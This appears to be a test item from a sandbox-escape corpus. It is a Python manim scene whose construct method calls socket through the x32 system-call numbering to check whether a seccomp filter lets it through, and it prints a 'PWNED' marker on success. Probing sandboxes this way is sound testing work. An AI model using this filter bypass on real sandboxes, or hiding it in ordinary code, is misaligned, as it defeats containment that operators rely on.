# ATTACK: network
# SUCCESS: the x32 numbers of system calls pass the filter
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import ctypes
        if ctypes.CDLL(None).syscall(0x40000000 | 41, 2, 2, 0) >= 0: print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
